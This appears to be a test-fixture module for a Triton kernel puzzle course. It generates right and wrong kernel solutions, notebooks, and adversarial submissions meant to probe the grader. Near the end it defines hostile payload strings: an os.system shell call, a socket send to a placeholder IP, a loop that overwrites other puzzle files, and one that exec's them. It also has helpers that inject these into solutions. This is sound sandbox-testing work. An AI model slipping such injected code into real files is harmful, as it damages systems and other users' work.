"""The texts of the trial's class: right kernels, typical slips, stubs, notebooks, and files that fight back."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

from tritonpuzzles.curriculum.registry import load_curriculum
from tritonpuzzles.front.story import split

ROOT = Path(__file__).parents[2]
STEMS = {puzzle.number: puzzle.stem for puzzle in load_curriculum().puzzles}
RIGHT = {
    0: ("helper_function", "grid_from_meta", "no_mask_for_whole_tiles"),
    1: ("exp2", "persistent_rows", "helper_functions"),
    2: ("exp2", "while_loops", "small_tiles"),
    3: ("exp2", "lane_accumulators", "while_loops"),
    4: ("exp2", "two_rows", "grid_function"),
    5: ("log_sum_exp_kept", "while_loop"),
}
WRONG = {
    0: ("no_load_mask", "no_store_mask", "grid_rounded_down", "mask_one_long", "forgets_return", "y_forgotten"),
    1: ("no_other", "zero_padding", "never_divides", "no_max_subtraction", "rows_assumed_adjacent"),
    2: ("sum_of_the_last_tile", "max_of_the_last_tile", "never_divides", "no_other", "max_starts_at_zero"),
    3: ("sum_never_rescaled", "rescaled_the_wrong_way", "factor_without_exp", "max_starts_at_zero", "no_other"),
    4: ("sum_never_rescaled", "no_row_mask", "never_divides", "one_max_for_the_tile"),
    5: ("acc_never_rescaled", "no_scale", "keys_for_values"),
}
RENAMED = {  # of the solutions' own variables
    "offsets": ("idx", "offs"),
    "cols": ("columns", "c"),
    "m_new": ("biggest", "new_max"),
    "alpha": ("factor", "rescale"),
    "mask": ("valid", "inside"),
    "row": ("r", "row_index"),
    "start": ("begin", "offset"),
    "numerator": ("e", "exps"),
}
HEADER = "import torch\nimport triton\nimport triton.language as tl\n"


def stub(number: int) -> str:
    return (ROOT / "puzzles" / f"{STEMS[number]}.py").read_text(encoding="utf-8")


def solution(number: int) -> str:
    return (ROOT / "solutions" / f"{STEMS[number]}.py").read_text(encoding="utf-8")


def renamed(number: int, rng: random.Random) -> str:
    """Return the solution with other names for its variables, and without its comments: they would be copied too."""
    story = split(solution(number)).story
    code = re.sub(r"[ \t]+# (?!%%).*|^[ \t]*# (?!%%).*\n", "", split(solution(number)).code, flags=re.MULTILINE)
    for name, others in RENAMED.items():
        code = re.sub(rf"(?<![\w.]){name}(?!\w)(?!=[^=])", rng.choice(others), code)
    return story + code


def _of_corpus(number: int, kind: str, name: str) -> str:
    """Return a kernel of the corpus without its docstring, which says what is wrong."""
    text = (ROOT / "tests" / "mutants" / STEMS[number] / kind / f"{name}.py").read_text(encoding="utf-8")
    return re.sub(r'\A""".*?"""\n+', "", text, flags=re.DOTALL)


def right(number: int, rng: random.Random) -> str:
    match rng.randrange(3):
        case 0:
            return solution(number)
        case 1:
            return renamed(number, rng)
    return _of_corpus(number, "right", rng.choice(RIGHT[number]))


def wrong(number: int, rng: random.Random) -> str:
    """Return a slip; of puzzle 3 every other one is that the running sum is not rescaled."""
    names = WRONG[number]
    return _of_corpus(number, "wrong", names[0] if rng.random() < 0.4 else rng.choice(names))


def notebook(cells: dict[int, str]) -> bytes:
    """Return a notebook with a solve cell for each puzzle, among others."""

    def cell(kind: str, text: str) -> dict[str, object]:
        return {"cell_type": kind, "metadata": {}, "source": text.splitlines(keepends=True)}

    made = [cell("markdown", "# Homework"), cell("code", "%load_ext tritonpuzzles")]
    made += [cell("code", f"%%puzzle {number}\n{split(text).code}") for number, text in cells.items()]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def before(number: int, code: str) -> str:
    """Return a solution that runs code when it is imported."""
    parts = split(solution(number))
    return f"{parts.story}{code}\n\n{parts.code}"


def in_host(number: int, line: str) -> str:
    """Return a solution that runs a line when its host function is called."""
    return _once(solution(number), r'(\ndef (?!reference|\w+_kernel)\w+\([^\n]*:\n    """.*?"""\n)', line)


def in_kernel(number: int, line: str) -> str:
    """Return a solution that runs a line first in its kernel."""
    return _once(solution(number), r'(\ndef \w+_kernel\(.*?\):\n    """.*?"""\n)', line)


def _once(text: str, place: str, line: str) -> str:
    changed, count = re.subn(place, lambda found: f"{found[1]}    {line}\n", text, count=1, flags=re.DOTALL)
    assert count == 1
    return changed


LOOP = "while True:\n        pass"
SHELL = "import os\n\nos.system('echo owned > /tmp/owned-by-a-student')"
SOCKET = "import socket\n\nsocket.create_connection(('192.0.2.1', 80), timeout=1).send(b'answers?')"
OVERWRITES = """\
import pathlib

for other in pathlib.Path(__file__).resolve().parent.parent.rglob("p0*.py"):
    if other.resolve() != pathlib.Path(__file__).resolve():
        other.write_text("raise SystemExit")
"""
READS = """\
import pathlib

for other in pathlib.Path(__file__).resolve().parent.parent.rglob("p0*.py"):
    if other.resolve() != pathlib.Path(__file__).resolve():
        exec(other.read_text())
"""
